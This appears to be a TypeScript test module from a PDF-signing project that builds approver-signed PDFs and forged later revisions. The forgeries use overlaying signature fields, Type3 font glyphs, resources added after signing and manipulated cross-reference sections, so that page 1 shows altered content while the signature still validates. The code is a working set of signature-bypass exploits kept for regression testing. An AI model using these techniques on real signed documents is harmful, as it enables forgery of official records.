import { PdfDict, PdfReader, PdfRef, PdfString } from '../../daemon/src/pdf/reader/index.js';
import { signPdf } from '../../daemon/src/pdf/sign-pdf.js';
import { WritableDict, name, text } from '../../daemon/src/pdf/writer/serialize.js';
import type { Signer } from '../../daemon/src/token/signer.js';
import { EMPTY_SIG_FIELD, withEmptySignatureField } from './pdf-attacks-round2.js';
import {
  PAGE_RECT,
  acroFormWith,
  appearance,
  coverPaint,
  fieldNamed,
  formXObject,
  pageAnnotsWith,
} from './pdf-form-edits.js';
import { fillSignature, signatureDictionary, signatureField, signedUpdate } from './pdf-hand-signing.js';
import { makeInkPng } from './pdf-inputs-signer.js';
import { type UpdatePlan, type WrittenUpdate, appendUpdate, writeUpdate } from './pdf-update-writer.js';

/**
 * Forged updates after an approver's signature that each used to keep that signature TOTAL_PASSED
 * while page 1 showed something else: xref tricks that make readers disagree about which objects
 * a revision holds, names added to resources that something other than the page content draws,
 * a Type3 font in our number stamp, and signature fields (filled or new) painting over the page.
 * Each attack starts from `base` (an unsigned one-page văn bản), signs it as the approver with
 * `approver`, and returns the signed original and the attacked file.
 */

export interface AttackPair {
  signed: Buffer;
  attacked: Buffer;
}

/** Signers an attack may use: the approver of the original and, for some, any other trusted certificate. */
export interface AttackSigners {
  approver: Signer;
  other: Signer;
}

const approve = (bytes: Uint8Array, signer: Signer): Promise<Buffer> =>
  signPdf(bytes, { signer, role: 'approver', image: makeInkPng('signature') });

/** Whites out the upper part of the page and writes a forged title (a page content stream). */
const FORGED_CONTENT = 'q 1 1 1 rg 0 560 595 282 re f 1 0 0 rg 40 700 515 40 re f Q\n';
/** The same in a form XObject, with a forged title in Helvetica /F1. */
const FORGED_FORM = Buffer.from(
  'q 1 1 1 rg 0 560 595 282 re f Q BT /F1 28 Tf 0 0 0 rg 60 760 Td (QUYET DINH DA SUA - FORGED) Tj ET\n',
  'latin1',
);
/** The header of page 1 (number, date, title): 595 × 200 pt, 23.7% of A4, under the old quarter-page limit. */
const HEADER_RECT = [0, 642, 595.28, 841.89];
const HEADER_PAINT = Buffer.from(
  'q 1 1 1 rg 0 0 595.28 199.89 re f Q BT /F1 22 Tf 0 0 0 rg 40 120 Td (SO 999/QD-UBND  QUYET DINH DA SUA) Tj ET\n',
  'latin1',
);
const HELVETICA = (): WritableDict =>
  WritableDict.of({ Type: name('Font'), Subtype: name('Type1'), BaseFont: name('Helvetica') });

const contentRefs = (r: PdfReader): PdfRef[] => r.resolve(r.page(0).dict.get('Contents')) as PdfRef[];
/** The object number of page 1's first content stream. */
export const firstContentStream = (pdf: Uint8Array): number => contentRefs(PdfReader.fromBuffer(pdf))[0]!.num;
const lastStartxref = (pdf: Uint8Array): number =>
  Number(/startxref\s+(\d+)\s*%%EOF\s*$/.exec(Buffer.from(pdf).toString('latin1'))![1]);
const latin1 = (s: string): Buffer => Buffer.from(s, 'latin1');

/** A signature dictionary's /ByteRange written over its all-zero /Contents: a signature with no key behind it. */
function garbageSignature(w: WrittenUpdate): Buffer {
  const out = Buffer.from(w.bytes);
  const c = w.marks.get('contents')!;
  const br = w.marks.get('byteRange')!;
  const b = c.offset + c.length;
  out.write(`[0 ${c.offset} ${b} ${out.length - b}]`.padEnd(br.length, ' '), br.offset, 'latin1');
  return out;
}

// ---- filled and new signature fields over the page -----------------------------------------------

/**
 * Q: the empty signature field prepared before signing is signed afterwards, in the same revision
 * given a page-sized /Rect and an appearance that whites out page 1. `by`: a garbage CMS (Q1) or a
 * valid signature by another trusted certificate (Q2).
 */
export async function fillEmptyFieldFullPage(
  base: Uint8Array,
  signers: AttackSigners,
  by: 'garbage' | 'other',
): Promise<AttackPair> {
  const signed = await approve(withEmptySignatureField(base), signers.approver);
  const w = writeUpdate(signed, (r, next) => {
    const field = fieldNamed(r, EMPTY_SIG_FIELD);
    const [width, height] = [PAGE_RECT[2]!, PAGE_RECT[3]!];
    const ap = appearance(next, [0, 0, width, height], coverPaint(width, height));
    const sig = next();
    const widget = WritableDict.from(field.dict)
      .set('Rect', PAGE_RECT)
      .set('AP', WritableDict.of({ N: ap.ref }))
      .set('V', new PdfRef(sig, 0));
    return {
      objects: [ap.object, { num: sig, value: signatureDictionary() }, { num: field.ref.num, value: widget }],
    };
  });
  const attacked = by === 'garbage' ? garbageSignature(w) : await fillSignature(w, signers.other);
  return { signed, attacked };
}

/** A new signature field whose widget paints over the header of page 1 (under a quarter of the page). */
function headerSignatureField(r: PdfReader, next: () => number): UpdatePlan {
  const field = signatureField(r, next, { field: 'XacNhan', rect: HEADER_RECT, paint: HEADER_PAINT });
  return {
    objects: [
      ...field.objects,
      ...pageAnnotsWith(r, 0, [field.widget]),
      ...acroFormWith(r, next, { fields: [field.widget] }),
    ],
  };
}

/** G: a new signature field covering the header of page 1, its signature garbage (no key needed). */
export async function garbageSignatureOverHeader(
  base: Uint8Array,
  signers: AttackSigners,
): Promise<AttackPair> {
  const signed = await approve(base, signers.approver);
  return { signed, attacked: garbageSignature(writeUpdate(signed, headerSignatureField)) };
}

/** G2: as G, but validly signed by another trusted certificate. */
export async function otherSignatureOverHeader(
  base: Uint8Array,
  signers: AttackSigners,
): Promise<AttackPair> {
  const signed = await approve(base, signers.approver);
  return { signed, attacked: await signedUpdate(signed, signers.other, headerSignatureField) };
}

/**
 * H: a seal signature with a number stamp (SoVanBan) of the allowed shape and operators, but one
 * of its fonts is a Type3 font whose glyph paints a white box over the page's header.
 */
export async function stampWithType3Font(base: Uint8Array, signers: AttackSigners): Promise<AttackPair> {
  const signed = await approve(base, signers.approver);
  const rect = [40, 725, 400, 765];
  const attacked = await signedUpdate(signed, signers.other, (r, next) => {
    const field = signatureField(r, next, { field: 'CoQuan' });
    const [proc, t3, ap, stamp] = [next(), next(), next(), next()];
    const procData = latin1('0 0 d0 1 1 1 rg -5 -5 370 50 re f\n');
    const apData = latin1('BT /T3 1 Tf 0 0 Td (a) Tj ET BT /F1 14 Tf 0 g 4 14 Td (So: 999/QD-UBND) Tj ET\n');
    const font = WritableDict.of({
      Type: name('Font'),
      Subtype: name('Type3'),
      FontBBox: [-5, -5, 365, 45],
      FontMatrix: [1, 0, 0, 1, 0, 0],
      CharProcs: WritableDict.of({ a: new PdfRef(proc, 0) }),
      Encoding: WritableDict.of({ Type: name('Encoding'), Differences: [97, name('a')] }),
      FirstChar: 97,
      LastChar: 97,
      Widths: [0],
    });
    const fonts = WritableDict.of({ Font: WritableDict.of({ T3: new PdfRef(t3, 0), F1: HELVETICA() }) });
    const widget = WritableDict.of({
      Type: name('Annot'),
      Subtype: name('Widget'),
      FT: name('Tx'),
      Ff: 1,
      T: text('SoVanBan'),
      V: text('999/QD-UBND'),
      DA: text('/F1 14 Tf 0 g'),
      F: 4,
      Rect: rect,
      P: r.page(0).ref,
      AP: WritableDict.of({ N: new PdfRef(ap, 0) }),
    });
    const stampRef = new PdfRef(stamp, 0);
    return {
      objects: [
        ...field.objects,
        { num: proc, value: WritableDict.of({ Length: procData.length }), data: procData },
        { num: t3, value: font },
        { num: ap, value: formXObject([0, 0, 360, 40], apData, fonts), data: apData },
        { num: stamp, value: widget },
        ...pageAnnotsWith(r, 0, [field.widget, stampRef]),
        ...acroFormWith(r, next, { fields: [field.widget, stampRef] }),
      ],
    };
  });
  return { signed, attacked };
}

// ---- names added to resources that something else draws -----------------------------------------

/**
 * The original as an author prepares it: page 1 also draws form /Fm0, listed in an indirect
 * /XObject category dictionary of the page; /Fm0 draws /Im9, which does not exist yet.
 * `formResources`: `shared`, the form's /XObject is the page's category dictionary itself (A);
 * `own`, the form has its own resources without /Im9, which poppler then looks up in the page's (C).
 */
function withFormDrawingMissingName(base: Uint8Array, formResources: 'shared' | 'own'): Buffer {
  return appendUpdate(base, (r, next) => {
    const page = r.page(0);
    const res = r.resolve(page.dict.get('Resources')) as PdfDict;
    const [category, form, content] = [next(), next(), next()];
    const xobjects = WritableDict.of({ Fm0: new PdfRef(form, 0) });
    const old = r.resolve(res.get('XObject'));
    if (old instanceof PdfDict) for (const [k, v] of old.entries) xobjects.set(k, v);
    const formData = latin1('/Im9 Do\n');
    const ownResources =
      formResources === 'shared'
        ? WritableDict.of({ XObject: new PdfRef(category, 0) })
        : WritableDict.of({ Font: WritableDict.of({ F1: HELVETICA() }) });
    const contentData = latin1('q /Fm0 Do Q\n');
    const newPage = WritableDict.from(page.dict)
      .set('Resources', WritableDict.from(res).set('XObject', new PdfRef(category, 0)))
      .set('Contents', [...contentRefs(r), new PdfRef(content, 0)]);
    return {
      objects: [
        { num: category, value: xobjects },
        { num: form, value: formXObject(PAGE_RECT, formData, ownResources), data: formData },
        { num: content, value: WritableDict.of({ Length: contentData.length }), data: contentData },
        { num: page.ref.num, value: newPage },
      ],
    };
  });
}

/** After signing, /Im9 (a forged page) is added to the page's indirect /XObject category dictionary. */
function addIm9ToCategory(signed: Uint8Array): Buffer {
  return appendUpdate(signed, (r, next) => {
    const res = r.resolve(r.page(0).dict.get('Resources')) as PdfDict;
    const categoryRef = res.get('XObject') as PdfRef;
    const im9 = next();
    return {
      objects: [
        { num: im9, value: formXObject(PAGE_RECT, FORGED_FORM), data: FORGED_FORM },
        {
          num: categoryRef.num,
          value: WritableDict.from(r.dict(categoryRef)!).set('Im9', new PdfRef(im9, 0)),
        },
      ],
    };
  });
}

/** A: the form drawing /Im9 shares the page's /XObject category dictionary, where /Im9 is added. */
export async function sharedCategory(base: Uint8Array, signers: AttackSigners): Promise<AttackPair> {
  const signed = await approve(withFormDrawingMissingName(base, 'shared'), signers.approver);
  return { signed, attacked: addIm9ToCategory(signed) };
}

/** C: the form has its own resources without /Im9; poppler falls back to the page's, where /Im9 is added. */
export async function popplerResourceChain(base: Uint8Array, signers: AttackSigners): Promise<AttackPair> {
  const signed = await approve(withFormDrawingMissingName(base, 'own'), signers.approver);
  return { signed, attacked: addIm9ToCategory(signed) };
}

/**
 * B: page 1 shows a Type3 font without /Resources whose glyph draws /Im9 from the page's resources
 * (ISO 32000-1 §9.6.5); after signing /Im9 is added to the page's /XObject resources.
 */
export async function type3InheritsPageResources(
  base: Uint8Array,
  signers: AttackSigners,
): Promise<AttackPair> {
  const prepared = appendUpdate(base, (r, next) => {
    const page = r.page(0);
    const res = r.resolve(page.dict.get('Resources')) as PdfDict;
    const [t3, proc, content] = [next(), next(), next()];
    const procData = latin1('0 0 d0 /Im9 Do\n');
    const font = WritableDict.of({
      Type: name('Font'),
      Subtype: name('Type3'),
      FontBBox: [0, 0, 600, 850],
      FontMatrix: [1, 0, 0, 1, 0, 0],
      CharProcs: WritableDict.of({ g: new PdfRef(proc, 0) }),
      Encoding: WritableDict.of({ Type: name('Encoding'), Differences: [32, name('g')] }),
      FirstChar: 32,
      LastChar: 32,
      Widths: [0],
    });
    const fonts = WritableDict.from(r.dict(res.get('Font')) ?? new PdfDict()).set('T3', new PdfRef(t3, 0));
    const contentData = latin1('BT /T3 1 Tf 0 0 Td ( ) Tj ET\n');
    const newPage = WritableDict.from(page.dict)
      .set('Resources', WritableDict.from(res).set('Font', fonts))
      .set('Contents', [...contentRefs(r), new PdfRef(content, 0)]);
    return {
      objects: [
        { num: t3, value: font },
        { num: proc, value: WritableDict.of({ Length: procData.length }), data: procData },
        { num: content, value: WritableDict.of({ Length: contentData.length }), data: contentData },
        { num: page.ref.num, value: newPage },
      ],
    };
  });
  const signed = await approve(prepared, signers.approver);
  const attacked = appendUpdate(signed, (r, next) => {
    const page = r.page(0);
    const res = r.resolve(page.dict.get('Resources')) as PdfDict;
    const im9 = next();
    const xobjects = WritableDict.from(r.dict(res.get('XObject')) ?? new PdfDict()).set(
      'Im9',
      new PdfRef(im9, 0),
    );
    const newPage = WritableDict.from(page.dict).set(
      'Resources',
      WritableDict.from(res).set('XObject', xobjects),
    );
    return {
      objects: [
        { num: im9, value: formXObject(PAGE_RECT, FORGED_FORM), data: FORGED_FORM },
        { num: page.ref.num, value: newPage },
      ],
    };
  });
  return { signed, attacked };
}

// ---- cross-reference tricks ----------------------------------------------------------------------

/** `num 0 obj` holding `FORGED_CONTENT` as a stream. */
const forgedStreamObject = (num: number): string =>
  `${num} 0 obj\n<< /Length ${FORGED_CONTENT.length} >>\nstream\n${FORGED_CONTENT}\nendstream\nendobj\n`;

/**
 * P: an update whose xref lists the catalog at a wrong offset (inside a new, unlisted copy of page
 * 1's content stream). A reader that relocates the catalog sees the signed document; viewers that
 * rebuild the xref take the last definition of each object: the forged content.
 */
export async function repairDifferential(base: Uint8Array, signers: AttackSigners): Promise<AttackPair> {
  const signed = await approve(base, signers.approver);
  const r = PdfReader.fromBuffer(signed);
  const root = r.trailer.get('Root') as PdfRef;
  const info = r.trailer.get('Info');
  const id = r.resolve(r.trailer.get('ID'));
  const ids = (Array.isArray(id) ? id : [])
    .map((x) => (x instanceof PdfString ? `<${Buffer.from(x.bytes).toString('hex')}>` : ''))
    .join(' ');
  let s = '\n';
  const objectAt = signed.length + s.length;
  s += forgedStreamObject(contentRefs(r)[0]!.num);
  const xrefAt = signed.length + s.length;
  s += `xref\n0 1\n0000000000 65535 f\r\n${root.num} 1\n${String(objectAt + 3).padStart(10, '0')} 00000 n\r\n`;
  s += `trailer\n<< /Size ${r.nextObjectNumber} /Root ${root.num} 0 R`;
  if (info instanceof PdfRef) s += ` /Info ${info.num} 0 R`;
  if (ids.trim()) s += ` /ID [${ids}]`;
  s += ` /Prev ${r.lastRevision.xrefOffset} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return { signed, attacked: Buffer.concat([signed, latin1(s)]) };
}

/**
 * D: the original carries an unreferenced xref section (a forged page 1 content stream) whose /Prev
 * is where the approver's signing update will put its xref (learnt from a dry run: signing is
 * deterministic for a given input and signer). After signing, an empty update chains to that
 * dormant section, which then looks as if it belonged to the signed revision.
 */
export async function dormantXrefMerge(base: Uint8Array, signers: AttackSigners): Promise<AttackPair> {
  const r0 = PdfReader.fromBuffer(base);
  const rootNum = (r0.trailer.get('Root') as PdfRef).num;
  const head = Buffer.from(base)
    .toString('latin1')
    .replace(/([^\n])$/, '$1\n');
  const objectAt = head.length;
  const dormantAt = objectAt + forgedStreamObject(contentRefs(r0)[0]!.num).length;
  const prepared = (prev: number): Buffer =>
    latin1(
      `${head}${forgedStreamObject(contentRefs(r0)[0]!.num)}` +
        `xref\n0 1\n0000000000 65535 f\r\n${contentRefs(r0)[0]!.num} 1\n${String(objectAt).padStart(10, '0')} 00000 n\r\n` +
        `trailer\n<< /Size ${r0.nextObjectNumber} /Root ${rootNum} 0 R /Prev ${String(prev).padStart(10, '0')} >>\n`,
    );
  const predicted = lastStartxref(await approve(prepared(0), signers.approver));
  const signed = await approve(prepared(predicted), signers.approver);
  if (lastStartxref(signed) !== predicted) throw new Error('the signing update moved: dry run mispredicted');
  const r1 = PdfReader.fromBuffer(signed);
  const tail =
    '\nxref\n0 1\n0000000000 65535 f\r\n' +
    `trailer\n<< /Size ${r1.nextObjectNumber} /Root ${rootNum} 0 R /Prev ${dormantAt} >>\n` +
    `startxref\n${signed.length + 1}\n%%EOF\n`;
  return { signed, attacked: Buffer.concat([signed, latin1(tail)]) };
}
